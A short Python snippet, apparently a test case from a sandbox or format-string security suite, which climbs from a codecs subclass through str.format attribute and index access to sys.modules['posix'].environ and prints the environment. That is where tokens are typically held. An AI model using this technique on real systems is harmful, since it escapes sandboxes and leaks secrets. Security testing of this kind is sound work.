# Reads the environment by a format specification inside another.
# evidence: token
# held by: environment
# baseline: bare
kind = [kind for kind in type.__subclasses__(object) if kind.__module__ == 'codecs' and hasattr(kind.__init__, '__globals__')][0]
print(ENVIRONMENT, '{0:{1}}{0.__init__.__globals__[sys].modules[posix].environ}'.format(kind, ''))
